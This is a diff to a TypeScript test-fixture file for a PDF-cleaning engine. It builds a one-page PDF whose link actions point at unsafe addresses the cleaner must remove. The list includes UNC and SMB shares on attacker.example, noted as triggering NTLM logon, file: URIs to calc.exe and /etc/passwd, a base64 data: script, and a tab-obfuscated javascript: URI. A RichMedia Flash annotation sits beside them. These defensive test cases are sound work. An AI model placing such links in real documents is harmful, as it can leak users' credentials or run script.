@@ -7,14 +7,19 @@ import sharp from "sharp";
 import {
   concatTransformationMatrix,
   drawObject,
+  PDFArray,
+  PDFDict,
   PDFDocument,
+  PDFHexString,
   PDFName,
   PDFRawStream,
+  PDFStream,
+  PDFString,
   popGraphicsState,
   pushGraphicsState,
   StandardFonts,
 } from "@cantoo/pdf-lib";
-import type { PDFPage, PDFRef, SecurityOptions } from "@cantoo/pdf-lib";
+import type { PDFObject, PDFPage, PDFRef, SecurityOptions } from "@cantoo/pdf-lib";
 
 /**
  * Corpus files whose signatures the engine finds: the signed category, and one file the manifest
@@ -214,4 +219,75 @@ export async function imageStreams(
     });
   }
   return images;
+}
+
+/** Addresses the cleaning must take out of a document (each carried by one link of reachingPdf). */
+export const UNSAFE_ADDRESSES = [
+  "\\\\attacker.example\\share\\report.pdf", // GoToR to a UNC path: Windows logs on with NTLM
+  "//attacker.example/share/spec.pdf", // the same in PDF's own path syntax (a file specification)
+  "smb://attacker.example/share/form.fdf", // SubmitForm to a share
+  "file:///C:/Windows/System32/calc.exe",
+  " \tFILE:///etc/passwd", // spaces and tabs in front, upper case: still file:
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "java\tscript:alert(1)", // a tab inside the scheme is ignored by browsers
+  "\\\\attacker.example\\uri", // a URI to a share
+] as const;
+
+/** Addresses the cleaning keeps: cross-document links, the web, mail. */
+export const SAFE_ADDRESSES = ["chapter2.pdf", "https://example.com/jobs", "mailto:jobs@example.com"] as const;
+
+/**
+ * A one-page document whose links reach outside it: one for each of UNSAFE_ADDRESSES (GoToR with a
+ * file name or a file specification, SubmitForm, URI actions), one for each of SAFE_ADDRESSES, and
+ * one RichMedia annotation (a Flash player) beside them.
+ */
+export async function reachingPdf(): Promise<Uint8Array> {
+  const doc = await PDFDocument.create({ updateMetadata: false });
+  const page = doc.addPage([400, 400]);
+  page.drawText("links", { x: 20, y: 350, size: 14 });
+  const { context } = doc;
+  const str = (text: string) => PDFHexString.fromText(text);
+  const [unc, pdfPath, smb, ...uris] = UNSAFE_ADDRESSES;
+  const actions: Record<string, unknown>[] = [
+    { S: "GoToR", F: str(unc), D: [0, "Fit"] },
+    { S: "GoToR", F: { Type: "Filespec", F: str(pdfPath), UF: str(pdfPath) }, D: [0, "Fit"], NewWindow: true },
+    { S: "SubmitForm", F: { FS: "URL", F: str(smb) } },
+    ...uris.map((uri) => ({ S: "URI", URI: str(uri) })),
+    { S: "GoToR", F: str(SAFE_ADDRESSES[0]), D: [0, "Fit"] },
+    { S: "URI", URI: str(SAFE_ADDRESSES[1]) },
+    { S: "URI", URI: str(SAFE_ADDRESSES[2]) },
+  ];
+  const annotations = actions.map((action, i) =>
+    context.register(
+      context.obj({ Type: "Annot", Subtype: "Link", Rect: [20, 320 - i * 25, 200, 340 - i * 25], A: action } as never),
+    ),
+  );
+  const flash = context.register(context.stream("FWS flash movie", { Type: "EmbeddedFile" }));
+  const player = context.obj({
+    Type: "Annot",
+    Subtype: "RichMedia",
+    Rect: [220, 200, 380, 320],
+    RichMediaContent: {
+      Assets: { Names: [str("movie.swf"), { Type: "Filespec", F: str("movie.swf"), EF: { F: flash } }] },
+      Configurations: [{ Type: "RichMediaConfiguration", Subtype: "Flash" }],
+    },
+    RichMediaSettings: { Activation: { Condition: "PO" } },
+  } as never);
+  annotations.push(context.register(player));
+  page.node.set(PDFName.of("Annots"), context.obj(annotations));
+  return doc.save({ useObjectStreams: false });
+}
+
+/** Every string of the document as text, wherever it is (dictionaries and arrays, direct or not). */
+export function stringsOf(doc: PDFDocument): string[] {
+  const found: string[] = [];
+  const stack: PDFObject[] = doc.context.enumerateIndirectObjects().map(([, object]) => object);
+  while (stack.length > 0) {
+    const value = stack.pop()!;
+    if (value instanceof PDFString || value instanceof PDFHexString) found.push(value.decodeText());
+    else if (value instanceof PDFStream) stack.push(value.dict);
+    else if (value instanceof PDFDict) stack.push(...value.values());
+    else if (value instanceof PDFArray) stack.push(...value.asArray());
+  }
+  return found;
 }
